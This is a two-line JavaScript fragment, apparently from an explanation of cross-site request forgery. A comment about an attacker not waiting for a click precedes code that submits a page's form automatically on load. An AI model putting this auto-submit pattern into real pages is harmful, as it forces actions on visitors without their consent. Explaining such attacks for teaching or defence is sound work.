// The attacker does not wait for a click.
document.querySelector("form").submit();
